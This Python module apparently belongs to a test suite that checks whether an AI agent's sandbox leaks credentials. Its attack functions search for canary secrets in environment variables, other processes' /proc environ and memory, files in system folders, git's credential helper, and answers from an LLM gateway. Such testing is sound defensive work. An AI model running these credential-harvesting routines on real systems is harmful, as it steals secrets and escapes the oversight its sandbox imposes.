"""Attacks on what must not be in the sandbox: credentials."""
import glob
import os
import re
import subprocess

from frame import Refused, Untried, agent_token, attack, exchange, first_form, judged

FILE_BYTES_MAX = 4 << 20
# Of one area of memory: agents have arenas of gigabytes of which next to nothing is there.
AREA_BYTES_MAX = 64 << 20
PIECE_BYTES = 1 << 20
# Longer than any form of a canary: one may lie across the border of two pieces.
OVERLAP_BYTES = 1 << 10
FOLDERS = ["/workspace", "/home", "/root", "/tmp", "/opt", "/etc", "/run", "/var", "/dev/shm", "/srv", "/mnt"]


def look(parameters, where, data):
    found = first_form(parameters, data)
    return "%s... in %s" % (found, where) if found else None


@attack("cred-env")
def environment(parameters):
    text = "\n".join("%s=%s" % pair for pair in os.environ.items()).encode()
    found = look(parameters, "the environment", text)
    if found:
        return found
    raise Refused("%d variables" % len(os.environ))


@attack("cred-proc")
def processes(parameters):
    looked = refused = 0
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        if path.split("/")[2] == str(os.getpid()):
            continue
        try:
            with open(path, "rb") as file:
                found = look(parameters, path, file.read(FILE_BYTES_MAX))
            looked += 1
        except OSError:
            refused += 1
            continue
        if found:
            return found
    raise Refused("%d files read, %d closed" % (looked, refused))


@attack("cred-files")
def files(parameters):
    looked = 0
    for folder in FOLDERS:
        for base, folders, names in os.walk(folder):
            folders[:] = [name for name in folders if name not in ("node_modules", "python3", "perl")]
            for name in names:
                path = os.path.join(base, name)
                try:
                    if not os.path.isfile(path) or os.path.getsize(path) > FILE_BYTES_MAX:
                        continue
                    with open(path, "rb") as file:
                        found = look(parameters, path, file.read())
                    looked += 1
                except OSError:
                    continue
                if found:
                    return found
    raise Refused("%d files" % looked)


@attack("cred-git")
def git_configuration(parameters):
    text = b""
    for line in (
        ["config", "--list", "--show-origin"],
        ["remote", "--verbose"],
        ["reflog", "--all"],
        ["credential", "fill"],
    ):
        question = b"protocol=https\nhost=github.com\n\n" if line[0] == "credential" else b""
        text += subprocess.run(["git"] + line, input=question, capture_output=True, timeout=20).stdout
    found = look(parameters, "git's configuration", text)
    if found:
        return found
    raise Refused("%d bytes" % len(text))


@attack("cred-pid1-environ")
def environ_of_pid_1(parameters):
    with open("/proc/%d/environ" % parameters.get("victim", 1), "rb") as file:
        return "%d bytes" % len(file.read())


def areas(pid):
    """Beginning and length of what a process may write to: heap, stack with arguments and environment, buffers."""
    with open("/proc/%d/maps" % pid) as maps:
        for line in maps:
            area = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if area:
                begin, end = (int(border, 16) for border in area.groups())
                yield begin, min(end - begin, AREA_BYTES_MAX)


@attack("cred-pid1-mem")
def memory_of_pid_1(parameters):
    pid = parameters.get("victim", 1)
    for begin, _ in areas(pid):
        with open("/proc/%d/mem" % pid, "rb", 0) as memory:
            memory.seek(begin)
            return "%d bytes" % len(memory.read(64))
    raise Refused("no map")


def pieces(pid):
    """The memory of a process; areas that cannot be read, as those of devices, are left out."""
    with open("/proc/%d/mem" % pid, "rb", 0) as memory:
        for begin, length in areas(pid):
            for offset in range(0, length, PIECE_BYTES):
                try:
                    memory.seek(begin + offset)
                    yield memory.read(min(PIECE_BYTES + OVERLAP_BYTES, length - offset))
                except OSError:
                    break


def is_attacker(pid):
    """Whether this is the attacker's own program: there the canaries are put together from their halves."""
    with open("/proc/%d/cmdline" % pid, "rb") as file:
        return b"/attack.py\0" in file.read()


@attack("cred-mem")
def memory_of_all(parameters):
    looked = closed = 0
    for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
        try:
            if is_attacker(pid):
                continue
            for piece in pieces(pid):
                found = look(parameters, "the memory of process %d" % pid, piece)
                if found:
                    return found
            looked += 1
        except OSError:
            closed += 1
    if looked + closed == 0:
        raise Untried("no other process is to be seen")
    raise Refused("%d processes read, %d closed" % (looked, closed))


@attack("cred-pid1-fd")
def descriptors_of_pid_1(parameters):
    return " ".join(os.listdir("/proc/%d/fd" % parameters.get("victim", 1)))


@attack("cred-gateway-answers")
def answers_of_the_gateway(parameters):
    token = agent_token(parameters)
    text = b""
    for line in ("GET / ", "GET /healthz ", "GET /metrics ", "GET /v1/step ", "GET /llm/ ", "POST /llm/v1/messages "):
        request = "%sHTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        answer = exchange(parameters, (request % (line, token)).encode())
        judged(parameters, line, answer)
        text += answer
    found = look(parameters, "an answer of the gateway", text)
    if found:
        return found
    raise Refused("%d bytes of answers" % len(text))
